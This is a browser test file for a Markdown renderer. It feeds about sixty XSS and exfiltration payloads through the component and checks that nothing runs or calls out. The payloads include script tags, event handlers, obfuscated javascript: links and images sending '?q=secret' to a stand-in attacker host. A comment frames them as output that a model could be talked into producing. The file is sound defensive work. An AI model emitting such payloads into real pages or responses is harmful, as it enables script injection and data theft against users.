import type { PublicConfig } from '@scanleaf/shared'
import { beforeAll, expect, test } from 'vitest'
import { page } from 'vitest/browser'
import { ConfigContext } from '../../lib/config'
import { startI18n } from '../../lib/i18n/i18n'
import { render } from '../../testing/draw'
import { Markdown } from './markdown'

beforeAll(() => startI18n('en', 'browser'))

const APP_URL = 'https://app.example'

const draw = (text: string) =>
  render(
    <ConfigContext value={{ appUrl: APP_URL } as PublicConfig}>
      <Markdown text={text} />
    </ConfigContext>,
  )

const FOREIGN = 'https://evil.example/'

/** What somebody could talk a model into saying, or write into a name that it repeats. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  `<img src="${FOREIGN}?q=secret">`,
  `![x](${FOREIGN}?q=secret)`,
  `![x][1]\n\n[1]: ${FOREIGN}a.png`,
  `[![x](${FOREIGN}a.png)](${FOREIGN})`,
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/)',
  '[x](/logout)',
  '[x](../../logout)',
  '[x](#main)',
  '[x](intent://evil#Intent;end)',
  '[x](tel:112)',
  '<javascript:alert(1)>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="${FOREIGN}" onclick="alert(1)">x</a>`,
  `<iframe src="${FOREIGN}"></iframe>`,
  `<object data="${FOREIGN}"></object>`,
  `<embed src="${FOREIGN}">`,
  `<link rel="stylesheet" href="${FOREIGN}a.css">`,
  `<style>@import url(${FOREIGN}a.css)</style>`,
  `<div style="background:url(${FOREIGN}a.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`,
  `<base href="${FOREIGN}">`,
  `<form action="${FOREIGN}"><input name=q><button>x</button></form>`,
  `<video poster="${FOREIGN}a.png" src="${FOREIGN}a.mp4" autoplay></video>`,
  `<audio src="${FOREIGN}a.mp3" autoplay></audio>`,
  `<svg onload=alert(1)><image href="${FOREIGN}a.png"/></svg>`,
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select onchange=alert(1)><option>1</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  `| a |\n| - |\n| ![x](${FOREIGN}a.png) |`,
  `- [ ] <img src=x onerror=alert(1)>\n- [x] ![x](${FOREIGN}a.png)`,
  `x[^1]\n\n[^1]: <script>alert(1)</script> ![x](${FOREIGN}a.png)`,
  '# <script>alert(1)</script>',
  '> <img src=x onerror=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
]

const MAY_STAND = new Set(
  'p br em strong del blockquote hr ul ol li a code pre table thead tbody tr th td div span button svg path'.split(
    ' ',
  ),
)

test.each(PAYLOADS)('%j runs nothing and asks nobody', async (payload) => {
  const before = performance.getEntriesByType('resource').length
  const { container } = draw(`Before\n\n${payload}\n\nAfter`)
  expect(container.textContent).toMatch(/^Before.*After/s)
  for (const element of container.querySelectorAll('*')) {
    const name = element.localName
    expect(MAY_STAND.has(name), `${name} in ${container.innerHTML}`).toBe(true)
    for (const { name: attribute } of element.attributes) {
      expect(attribute.startsWith('on'), container.innerHTML).toBe(false)
      expect(['src', 'srcset', 'style', 'action', 'srcdoc', 'poster', 'xlink:href'], attribute).not.toContain(
        attribute,
      )
      expect(attribute, container.innerHTML).not.toBe('href')
    }
  }
  const asked = performance.getEntriesByType('resource').slice(before)
  expect(asked.filter(({ name }) => new URL(name).origin !== window.location.origin)).toEqual([])
})

test('there are sixty of them', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(60))

test('addresses of this installation are links; all others are text', () => {
  const own = [`[page](${APP_URL}/help)`, `${window.location.origin}/scans`]
  const others = [
    '[x](https://c.example)',
    'https://d.example',
    'www.e.example',
    'an@f.example',
    `${APP_URL}.evil.example`,
  ]
  const { container } = draw([...own, ...others].join('\n\n'))
  const links = [...container.querySelectorAll('a')].map(({ href, target, rel }) => [href, target, rel])
  const rel = 'noopener noreferrer nofollow'
  expect(links).toEqual([
    [`${APP_URL}/help`, '_blank', rel],
    [`${window.location.origin}/scans`, '_blank', rel],
  ])
  expect(container.textContent).toContain('https://d.example')
})

test('tables, lists and code are drawn; the copy button says so for two seconds', async () => {
  const text = '| a | b |\n| - | - |\n| 1 | 2 |\n\n```html\n<a>\n```'
  const { container } = draw(text)
  expect(container.querySelectorAll('td')).toHaveLength(2)
  expect(container.querySelector('pre')?.textContent).toBe('<a>')
  const copy = page.getByRole('button')
  await expect.element(copy).toHaveTextContent('Copy')
  await copy.click()
  await expect.element(copy).toHaveTextContent('Copied')
  await expect.element(copy).toHaveTextContent('Copy')
})
